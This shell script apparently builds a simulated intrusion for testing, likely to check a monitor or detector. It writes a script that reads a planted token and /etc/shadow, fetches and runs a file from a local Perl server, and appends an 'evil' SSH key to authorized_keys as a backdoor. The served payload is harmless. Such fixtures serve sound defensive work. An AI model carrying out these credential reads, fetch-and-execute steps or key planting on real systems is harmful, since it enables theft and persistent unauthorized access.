# Someone has got a shell, looks around, fetches a program, and leaves a way back in.
mkdir -p home/.ssh tmp
echo s3cret > home/.token
cat > intrusion.sh <<'SH'
#!/bin/bash
id -un >/dev/null
cat home/.token >/dev/null
cat /etc/shadow >/dev/null
curl -s -m 2 http://127.0.0.1:8648/x > tmp/.x
chmod 755 tmp/.x
echo 'ssh-ed25519 AAAAC3 shop@evil' >> home/.ssh/authorized_keys
./tmp/.x
rm -f tmp/.x
SH
chmod 755 intrusion.sh
exec perl -MIO::Socket::INET -e '
  my $server = IO::Socket::INET->new(Listen => 5, ReuseAddr => 1, LocalAddr => "127.0.0.1", LocalPort => 8648) or die;
  $| = 1; print "ready\n";
  while (my $client = $server->accept) { sysread $client, my $request, 4096; print $client "HTTP/1.0 200 OK\r\n\r\n#!/bin/sh\ntrue\n"; close $client }'
